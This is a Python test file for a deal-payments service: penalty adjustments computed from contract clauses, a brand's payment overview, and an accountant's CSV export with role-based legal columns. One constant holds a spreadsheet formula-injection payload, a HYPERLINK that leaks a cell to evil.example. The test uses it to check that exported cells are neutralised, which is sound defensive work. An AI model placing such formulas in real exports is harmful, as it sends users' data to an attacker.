"""The money around the payments on DynamoDB Local: adjustments worked out by the contract's clauses on
a placement's share of the fee (and recomputable from what is stored), a brand's payments at a glance
(due this week with the overdue, on hold, paid this month), and the accountant's CSV read back with
the csv module (legal columns for those who may see them, formula cells neutralised)."""
from __future__ import annotations

import codecs
import csv
import datetime as dt
import io

from chalicelib.deals import payment_service
from tests.support.deal_flow import TERMS, move, payments, set_payment, signed
from tests.support.deals_api import act
from tests.support.posts import body, call

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def adjust(client, crew, deal_id, who="influencer_manager", **data):
    return call(client, "post", f"/v1/deals/{deal_id}/adjustments", crew[who], data)


# --- adjustments -----------------------------------------------------------------------------------

def test_penalties_are_worked_out_by_the_contracts_clauses_on_the_placements_share(client, crew):
    deal, items, _ = signed(client, crew, deliverables=2, terms=TERMS)
    first, second = items[0]["id"], items[1]["id"]
    cases = [  # fee 150 000,00 over two placements: 75 000,00 each
        ({"rule": "late", "minutes_late": 61}, "-750.00", {"hours_started": 2, "pct_applied": "1.0"}, first),
        ({"rule": "missing_elements", "count": 2}, "-7500.00", {"count": 2, "pct_applied": "10"}, first),
        ({"rule": "early_deletion", "live_hours": "18"}, "-18750.00", {"mode": "pro_rata", "hours_missing": "6"}, first),
        ({"rule": "no_show"}, "-75000.00", {}, second),  # the first's share is partly taken: never beyond it
    ]
    for data, amount, inputs, placement in cases:
        r = adjust(client, crew, deal["id"], deliverable_id=placement, note="from the check", **data)
        assert r.status_code == 201, (data, r.body)
        line = body(r)
        assert line["amount"]["amount"] == amount and line["recomputed"] == line["amount"] and line["matches"]
        assert line["inputs"]["fee"] == {"amount": "75000.00", "currency": "RUB"}
        assert {k: line["inputs"][k] for k in inputs} == inputs
        assert line["deliverable_id"] == placement and line["created_by"] == crew["influencer_manager"].id
    r = adjust(client, crew, deal["id"], rule="manual", amount={"amount": "-5000.00", "currency": "RUB"},
               note="returned the product")
    assert r.status_code == 201 and body(r)["amount"]["amount"] == "-5000.00" and body(r)["matches"]
    found = payments(client, crew, deal["id"])
    assert [a["rule"] for a in found["adjustments"]] == ["late", "missing_elements", "early_deletion", "no_show",
                                                          "manual"]
    assert all(a["matches"] for a in found["adjustments"])
    assert found["summary"]["adjustments"]["amount"] == "-107000.00"
    assert found["summary"]["balance"]["amount"] == "43000.00"


def test_a_stored_line_is_recomputed_from_its_inputs_and_a_tampered_one_does_not_match(client, crew):
    deal, items, _ = signed(client, crew, terms=TERMS)
    line = body(adjust(client, crew, deal["id"], rule="late", deliverable_id=items[0]["id"], minutes_late=180))
    assert line["amount"]["amount"] == "-2250.00"  # 3 hours × 0.5 % of 150 000,00
    from chalicelib.deals import repo
    from chalicelib.deals.models import AdjustmentRecord

    [record] = repo.adjustments_of(deal["id"])
    record.update(actions=[AdjustmentRecord.amount_minor.set(-999999)])
    tampered = payments(client, crew, deal["id"])["adjustments"][0]
    assert tampered["matches"] is False and tampered["recomputed"]["amount"] == "-2250.00"
    record.update(actions=[AdjustmentRecord.inputs.set({**line["inputs"], "hours_started": 1})])
    broken = payments(client, crew, deal["id"])["adjustments"][0]
    assert broken["recomputed"] is None and "do not follow from its inputs" in broken["problem"]


def test_adjustments_need_the_clause_the_rule_and_the_right_person(client, crew):
    deal, items, _ = signed(client, crew, terms={"min_live_hours": 24})
    first = items[0]["id"]
    r = adjust(client, crew, deal["id"], rule="late", deliverable_id=first, minutes_late=30)
    assert r.status_code == 422 and "no penalty for lateness" in body(r)["error"]["message"]
    assert adjust(client, crew, deal["id"], rule="late", deliverable_id=first).status_code == 422  # no minutes
    assert adjust(client, crew, deal["id"], rule="no_show").status_code == 422  # no deliverable
    assert adjust(client, crew, deal["id"], rule="manual", amount={"amount": "100.00", "currency": "RUB"}
                  ).status_code == 422  # no note
    r = adjust(client, crew, deal["id"], rule="manual", amount={"amount": "100.00", "currency": "USD"}, note="x")
    assert r.status_code == 422 and "deal's currency" in body(r)["error"]["message"]
    assert adjust(client, crew, deal["id"], rule="manual", amount={"amount": 1.5, "currency": "RUB"},
                  note="x").status_code == 422  # never a float
    assert adjust(client, crew, deal["id"], rule="no_show", deliverable_id="nosuchthing").status_code == 422
    for who, status in (("finance", 403), ("copywriter", 403), ("outsider", 404)):
        assert adjust(client, crew, deal["id"], who, rule="manual", amount={"amount": "1.00", "currency": "RUB"},
                      note="x").status_code == status
    other, other_items, _ = signed(client, crew, terms=TERMS)
    r = adjust(client, crew, other["id"], rule="missing_elements", deliverable_id=other_items[0]["id"], count=4)
    assert r.status_code == 422  # the contract requires three elements: two hashtags and the promo code


def test_no_adjustment_before_signing_or_after_cancelling(client, crew):
    from tests.support.deals_api import blogger, new_deal

    influencer, _ = blogger(client, crew, handle="@draft_only")
    draft = new_deal(client, crew, influencer["id"])
    r = adjust(client, crew, draft["id"], rule="manual", amount={"amount": "-1.00", "currency": "RUB"}, note="x")
    assert r.status_code == 409
    deal, _, _ = signed(client, crew)
    assert act(client, crew, deal["id"], "cancel", reason="gone").status_code == 200
    r = adjust(client, crew, deal["id"], rule="manual", amount={"amount": "-1.00", "currency": "RUB"}, note="x")
    assert r.status_code == 409


# --- a brand's payments ----------------------------------------------------------------------------

MILESTONES = [{"label": f"Part {n}", "percent": p, "trigger": "on_signing", "due_days": 1}
              for n, p in enumerate(("10", "10", "10", "10", "20", "20", "20"), 1)]


def test_the_brand_overview_sorts_payments_into_this_week_on_hold_and_paid_this_month(client, crew):
    deal, _, _ = signed(client, crew, milestones=MILESTONES)
    ids = [p["id"] for p in payments(client, crew, deal["id"])["items"]]
    today = payment_service.brand_today(crew["brand"].id)
    sunday, (first, _) = payment_service.week_end(today), payment_service.month_bounds(today)
    set_payment(ids[0], due_on=(today - dt.timedelta(days=3)).isoformat())  # overdue
    set_payment(ids[1], due_on=sunday.isoformat(), status="approved", approved_by=crew["smm_manager"].id)
    set_payment(ids[2], due_on=(sunday + dt.timedelta(days=1)).isoformat())  # next week
    set_payment(ids[3], status="on_hold", holds=["dispute", "manual"], held_from="due")
    set_payment(ids[4], status="paid", paid_on=today.isoformat(), reference="A-1")
    set_payment(ids[5], status="paid", paid_on=(first - dt.timedelta(days=1)).isoformat(), reference="A-0")
    set_payment(ids[6], status="cancelled")
    r = call(client, "get", f"/v1/brands/{crew['brand'].id}/payments", crew["finance"])
    assert r.status_code == 200, r.body
    view = body(r)
    assert view["today"] == today.isoformat() and view["week_ends"] == sunday.isoformat()
    assert [p["id"] for p in view["due_this_week"]] == [ids[0], ids[1]]
    assert [p["overdue"] for p in view["due_this_week"]] == [True, False]
    assert view["due_this_week"][1]["actions"] == ["pay"]  # finance, an approved payment
    assert view["due_this_week"][0]["deal_title"] == "Autumn launch"
    assert view["due_this_week"][0]["influencer_name"] == "Anna Cooks"
    assert view["due_this_week"][0]["contract_number"] == deal["contract_number"]
    assert [(p["id"], p["holds"]) for p in view["on_hold"]] == [(ids[3], ["dispute", "manual"])]
    assert [p["id"] for p in view["paid_this_month"]] == [ids[4]]
    assert [m["amount"] for m in view["totals"]["due_this_week"]] == ["30000.00"]
    assert view["totals"]["paid_this_month"][0]["amount"] == "30000.00"
    other_brand = call(client, "get", f"/v1/brands/{crew['brand'].id}/payments", crew["outsider"])
    assert other_brand.status_code == 404
    assert call(client, "get", f"/v1/brands/{crew['brand'].id}/payments", crew["copywriter"]).status_code == 403


# --- the accountant's CSV --------------------------------------------------------------------------

def read_csv(response) -> list[dict]:
    raw = response.body if isinstance(response.body, bytes) else response.body.encode()
    assert raw.startswith(codecs.BOM_UTF8)
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_the_csv_has_every_payment_with_the_signed_legal_data_and_no_live_formulas(client, crew):
    deal, _, _ = signed(client, crew, influencer={"legal_name": HOSTILE, "display_name": "@evil"},
                        milestones=[{"label": "Аванс", "percent": "30", "trigger": "on_signing", "due_days": 0},
                                    {"label": "=1+2", "percent": "70", "trigger": "on_publication_verified",
                                     "due_days": 10}])
    found = payments(client, crew, deal["id"])["items"]
    assert move(client, crew, found[0]["id"], "approve", "smm_manager").status_code == 200
    assert move(client, crew, found[0]["id"], "pay", "finance", paid_on=dt.date.today().isoformat(),
                reference="+7 (495) 000").status_code == 200
    r = call(client, "get", f"/v1/brands/{crew['brand'].id}/payments.csv", crew["finance"])
    assert r.status_code == 200 and r.headers["Content-Type"].startswith("text/csv")
    assert "attachment" in r.headers["Content-Disposition"]
    rows = read_csv(r)
    assert [row["status"] for row in rows] == ["planned", "paid"]
    planned, paid = rows
    assert paid["legal_name"] == "'" + HOSTILE and paid["inn"] == "500100732259"
    assert paid["influencer"] == "'@evil"
    assert (paid["label"], paid["amount"], paid["currency"]) == ("Аванс", "45000.00", "RUB")
    assert paid["reference"] == "'+7 (495) 000" and paid["contract_number"] == deal["contract_number"]
    assert (planned["label"], planned["amount"], planned["due_on"]) == ("'=1+2", "105000.00", "")
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values() if cell)


def test_the_csv_filters_and_keeps_legal_columns_for_those_who_may_see_them(client, crew):
    deal, _, _ = signed(client, crew)
    [item] = payments(client, crew, deal["id"])["items"]
    path = f"/v1/brands/{crew['brand'].id}/payments.csv"
    rows = read_csv(call(client, "get", path, crew["content_manager"]))
    assert "legal_name" not in rows[0] and "inn" not in rows[0] and rows[0]["payment_id"] == item["id"]
    assert read_csv(call(client, "get", f"{path}?status=paid", crew["finance"])) == []
    due_rows = read_csv(call(client, "get", f"{path}?status=due", crew["finance"]))
    assert [r["payment_id"] for r in due_rows] == [item["id"]]
    due = dt.date.fromisoformat(item["due_on"])
    inside = f"{path}?since={due.isoformat()}&until={due.isoformat()}"
    assert len(read_csv(call(client, "get", inside, crew["finance"]))) == 1
    after = f"{path}?since={(due + dt.timedelta(days=1)).isoformat()}"
    assert read_csv(call(client, "get", after, crew["finance"])) == []
    blank = call(client, "get", f"{path}?status=&since=&until=", crew["finance"])  # the page's form, left empty
    assert [r["payment_id"] for r in read_csv(blank)] == [item["id"]]
    r = call(client, "get", f"{path}?since=2026-02-01&until=2026-01-01", crew["finance"])
    assert r.status_code == 422
    assert call(client, "get", f"{path}?status=lost", crew["finance"]).status_code == 422
    assert call(client, "get", path, crew["copywriter"]).status_code == 403
    assert call(client, "get", path, crew["outsider"]).status_code == 404
